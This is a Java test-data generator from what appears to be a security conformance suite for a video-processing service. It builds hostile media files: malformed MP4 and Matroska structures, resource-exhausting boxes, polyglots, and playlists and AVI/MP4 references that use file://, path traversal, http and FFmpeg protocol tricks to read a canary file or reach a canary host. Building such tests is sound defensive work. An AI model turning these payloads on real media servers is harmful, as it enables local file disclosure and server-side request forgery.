package origin.conformance.hostile;

import static origin.conformance.hostile.Bytes.box;
import static origin.conformance.hostile.Bytes.boxOfSize;
import static origin.conformance.hostile.Bytes.chunk;
import static origin.conformance.hostile.Bytes.first;
import static origin.conformance.hostile.Bytes.int32;
import static origin.conformance.hostile.Bytes.int64;
import static origin.conformance.hostile.Bytes.join;
import static origin.conformance.hostile.Bytes.overwritten;
import static origin.conformance.hostile.Bytes.repeat;
import static origin.conformance.hostile.Bytes.replaced;
import static origin.conformance.hostile.Bytes.text;

import java.util.LinkedHashMap;
import java.util.List;
import java.util.Random;
import java.util.SequencedMap;

/// The files, each with a name that says what is wrong with it.
final class HostileInputs {
  private static final long SEED = 20_261_123;
  private static final int MUTATIONS = 40;

  private final Films films;
  private final Canary canary;
  private final SequencedMap<String, byte[]> all = new LinkedHashMap<>();

  private HostileInputs(Films films, Canary canary) {
    this.films = films;
    this.canary = canary;
  }

  /// All of them; those that attack go for the canary.
  ///
  /// @param mutations how many mutated files of each container
  static SequencedMap<String, byte[]> all(Films films, Canary canary, int mutations) {
    var inputs = new HostileInputs(films, canary);
    inputs.notVideos();
    inputs.polyglots();
    inputs.playlists();
    inputs.insideContainers();
    inputs.lies();
    inputs.structures();
    inputs.oddFilms();
    inputs.truncated();
    inputs.mutated(mutations);
    return inputs.all;
  }

  private void notVideos() {
    all.put("one byte", new byte[] {0});
    all.put("text named as a film", text("This is not a film.\n".repeat(500)));
    all.put("nothing but zeros", new byte[200_000]);
    all.put("noise", noise(300_000));
    all.put("a script", text("#!/bin/sh\ncat " + canary.file() + "\n"));
    all.put(
        "a page", text("<html><script>fetch('http://" + canary.address() + "')</script></html>"));
    all.put(
        "a drawing that fetches",
        text(
            "<svg xmlns='http://www.w3.org/2000/svg' xmlns:x='http://www.w3.org/1999/xlink' width='9' height='9'>"
                + "<image x:href='file://"
                + canary.file()
                + "' width='9' height='9'/></svg>"));
    all.put(
        "a picture of 20000 x 20000",
        overwritten(films.picture("testsrc2=s=320x180", "png"), "IHDR", 0, int32(20_000, 20_000)));
    all.put("a picture", films.picture("testsrc2=s=320x180", "mjpeg"));
    all.put("sound alone", films.film("sound.mp3"));
    all.put("sound with a cover", films.film("cover.mp3"));
  }

  private void polyglots() {
    byte[] film = films.film("film.mp4");
    byte[] zip = join(text("PK\u0003\u0004"), new byte[26]);
    byte[] gif = join(text("GIF89a"), new byte[] {1, 0, 1, 0, 0, 0, 0, 0x3b});
    all.put("a zip with a film in it", join(zip, film));
    all.put("a film with a zip behind it", join(film, zip));
    all.put("a picture with a film behind it", join(gif, film));
    all.put("a page with a film behind it", join(text("<!doctype html><body>"), film));
    all.put(
        "a film that begins with a page",
        join(box("free", text("<script>fetch('http://" + canary.address() + "')</script>")), film));
  }

  private void playlists() {
    for (String address : addresses()) {
      all.put(
          "a playlist of " + address,
          text("#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n" + address + "\n#EXT-X-ENDLIST\n"));
      all.put(
          "a list of " + address,
          text("ffconcat version 1.0\nfile '" + address + "'\nduration 9\n"));
    }
    all.put(
        "a playlist with a key elsewhere",
        text(
            "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXT-X-KEY:METHOD=AES-128,URI=\"http://"
                + canary.address()
                + "\"\n#EXTINF:9,\nfilm.ts\n#EXT-X-ENDLIST\n"));
    all.put(
        "a playlist with an init elsewhere",
        text(
            "#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n#EXT-X-MAP:URI=\"http://"
                + canary.address()
                + "\"\n#EXTINF:9,\nfilm.m4s\n#EXT-X-ENDLIST\n"));
    all.put(
        "a master playlist",
        text("#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nhttp://" + canary.address() + "\n"));
    all.put(
        "a manifest with a base elsewhere",
        text(
            "<MPD xmlns='urn:mpeg:dash:schema:mpd:2011' type='static' mediaPresentationDuration='PT9S'><BaseURL>http://"
                + canary.address()
                + "</BaseURL><Period><AdaptationSet mimeType='video/mp4'><Representation id='1'"
                + " bandwidth='1'><SegmentList><SegmentURL media='1'/></SegmentList></Representation></AdaptationSet></Period></MPD>"));
    all.put(
        "a session description",
        text(
            "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n"));
    all.put("a pointer of RealMedia", text("rtsp://" + canary.address() + "\n"));
    all.put(
        "a pointer of Windows Media",
        text(
            "<asx version='3'><entry><ref href='http://" + canary.address() + "'/></entry></asx>"));
  }

  private List<String> addresses() {
    String file = canary.file().toString();
    return List.of(
        file,
        "file://" + file,
        "file:" + file,
        "../../../../../../../.." + file,
        "http://" + canary.address(),
        "tcp://" + canary.address(),
        "concat:" + file + "|" + file,
        "subfile,,start,0,end,0,,:" + file,
        "crypto:" + file,
        "cache:http://" + canary.address(),
        "async:file:" + file,
        "fd:0",
        "pipe:0",
        "data:video/mp4;base64,AAAA");
  }

  private void insideContainers() {
    byte[] playlist =
        text(
            "#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1,\nfile://"
                + canary.file()
                + "\n#EXT-X-ENDLIST\n");
    all.put("AVI with a playlist as its subtitle", aviWithSubtitle(playlist));
    all.put(
        "AVI with a list as its subtitle",
        aviWithSubtitle(text("ffconcat version 1.0\nfile '" + canary.file() + "'\n")));
    byte[] film = films.film("film.mp4");
    byte[] local = join(int32(1), text("url "), int32(1));
    byte[] path = text("file://" + canary.file());
    all.put(
        "MP4 whose bytes lie in another file",
        replaced(film, local, join(int32(1), text("alis"), int32(0))));
    all.put(
        "MP4 that refers to another movie",
        join(
            box("ftyp", text("qt  "), int32(0), text("qt  ")),
            box(
                "moov",
                box(
                    "rmra",
                    box(
                        "rmda",
                        box(
                            "rdrf",
                            int32(0),
                            text("url "),
                            int32(path.length + 1),
                            path,
                            new byte[1]))))));
    all.put("Matroska with a playlist as its subtitle", films.film("subtitle.mkv"));
  }

  /// The trick of 2016: a subtitle track in `GAB2` form, whose text is whatever FFmpeg takes it
  /// for.
  private static byte[] aviWithSubtitle(byte[] subtitle) {
    byte[] gab2 =
        join(
            text("GAB2"),
            new byte[] {0, 2, 0, 2, 0, 0, 0, 'x', 0, 4, 0},
            int32(Integer.reverseBytes(subtitle.length)),
            subtitle);
    byte[] head =
        chunk(
            "avih", int32(0x409c0000L, 0, 0, 0, 0x01000000L, 0, 0x01000000L, 0, 0, 0, 0, 0, 0, 0));
    byte[] stream =
        join(
            text("LIST"),
            int32(Integer.reverseBytes(4 + 8 + 56)),
            text("strl"),
            chunk("strh", text("txts"), new byte[52]));
    byte[] headers =
        join(
            text("LIST"),
            int32(Integer.reverseBytes(4 + head.length + stream.length)),
            text("hdrl"),
            head,
            stream);
    byte[] movie = chunk("00sb", gab2);
    byte[] list =
        join(text("LIST"), int32(Integer.reverseBytes(4 + movie.length)), text("movi"), movie);
    return join(
        text("RIFF"),
        int32(Integer.reverseBytes(4 + headers.length + list.length)),
        text("AVI "),
        headers,
        list);
  }

  private void lies() {
    byte[] film = films.film("film.mp4");
    all.put("frames that last for weeks", overwritten(film, "stts", 12, int32(0x7fff_ffff)));
    all.put("frames that last no time", overwritten(film, "stts", 12, int32(0)));
    all.put("frames that run backwards", overwritten(film, "stts", 12, int32(0xffff_fff0L)));
    all.put("more frames than bytes", overwritten(film, "stsz", 8, int32(0xffff_ffffL)));
    all.put("frames of 2 GiB", overwritten(film, "stsz", 4, int32(0x7fff_ffff)));
    all.put("chunks beyond the end", overwritten(film, "stco", 8, int32(0xffff_fff0L)));
    all.put("more chunks than bytes", overwritten(film, "stco", 4, int32(0x4000_0000)));
    all.put("chunks without samples", overwritten(film, "stsc", 12, int32(0)));
    all.put("a picture as wide as the world", overwritten(film, "avc1", 24, int32(0xffff_ffffL)));
    all.put(
        "a film of pictures of 20000 x 20000",
        overwritten(films.film("png.mov"), "IHDR", 0, int32(20_000, 20_000)));
    all.put("a timescale of nothing", overwritten(film, "mdhd", 12, int32(0)));
    all.put("a timescale beyond reason", overwritten(film, "mdhd", 12, int32(0xffff_ffffL)));
    all.put("a tiny timescale", overwritten(film, "mdhd", 12, int32(1)));
    all.put("an edit of nothing but the future", overwritten(film, "elst", 12, int32(0x7fff_fff0)));
    all.put("parameters that make no sense", overwritten(film, "avcC", 8, noise(16)));
    all.put("no key frame at all", overwritten(films.film("gops.mp4"), "stss", 4, int32(0)));
  }

  private void structures() {
    byte[] brand = box("ftyp", text("isom"), int32(0x200), text("isom"));
    byte[] film = films.film("film.mp4");
    all.put("a million tiny boxes", join(brand, repeat(box("free"), 1_000_000)));
    all.put("a film behind a hundred thousand boxes", join(repeat(box("free"), 100_000), film));
    all.put("boxes within boxes", join(brand, nested("moov", 20_000)));
    all.put("tracks within tracks", join(brand, box("moov", nested("trak", 5_000))));
    all.put("a box of no size", join(brand, boxOfSize(0, "moov"), new byte[1000]));
    all.put("a box smaller than its head", join(brand, boxOfSize(3, "moov"), new byte[1000]));
    all.put(
        "a box larger than all disks", join(brand, boxOfSize(1, "moov", int64(Long.MAX_VALUE))));
    all.put("a box of negative size", join(brand, boxOfSize(1, "moov", int64(-1))));
    all.put("an index of 2 GiB", join(brand, boxOfSize(0x7fff_fff0, "moov", new byte[5000])));
    all.put("no index", join(brand, box("mdat", noise(50_000))));
    all.put("an index of nothing", join(brand, box("moov", box("mvhd", new byte[100]))));
    all.put(
        "a thousand empty tracks",
        join(
            brand,
            box(
                "moov",
                box("mvhd", new byte[100]),
                repeat(box("trak", box("tkhd", new byte[84])), 1000))));
    all.put(
        "Matroska without end",
        join(
            new byte[] {
              0x1a, 0x45, (byte) 0xdf, (byte) 0xa3, (byte) 0x80, 0x18, 0x53, (byte) 0x80, 0x67, 0x01
            },
            repeat(new byte[] {(byte) 0xff}, 7),
            noise(50_000)));
  }

  private static byte[] nested(String type, int depth) {
    byte[] all = new byte[8 * depth];
    for (int i = 0; i < depth; i++) {
      System.arraycopy(boxOfSize(8L * (depth - i), type), 0, all, 8 * i, 8);
    }
    return all;
  }

  private void oddFilms() {
    for (String name : Films.ODD.keySet()) {
      all.put(name, films.film(name));
    }
  }

  private void truncated() {
    for (String name : new String[] {"film.mp4", "film.mkv", "film.ts", "late-index.mp4"}) {
      for (double part : new double[] {0.01, 0.1, 0.5, 0.9, 0.999}) {
        all.put(name + " cut off at " + part, first(films.film(name), part));
      }
    }
  }

  private void mutated(int times) {
    Random random = new Random(SEED);
    for (String name : new String[] {"film.mp4", "film.mkv", "film.ts", "film.avi"}) {
      for (int i = 0; i < times; i++) {
        all.put("mutation " + i + " of " + name, mutated(films.film(name), random));
      }
    }
  }

  private static byte[] mutated(byte[] film, Random random) {
    byte[] changed = film.clone();
    boolean head = random.nextBoolean();
    for (int i = 0; i < MUTATIONS; i++) {
      int at = random.nextInt(head ? Math.min(changed.length, 4000) : changed.length);
      changed[at] = (byte) random.nextInt();
    }
    return changed;
  }

  private static byte[] noise(int size) {
    byte[] noise = new byte[size];
    new Random(SEED).nextBytes(noise);
    return noise;
  }
}
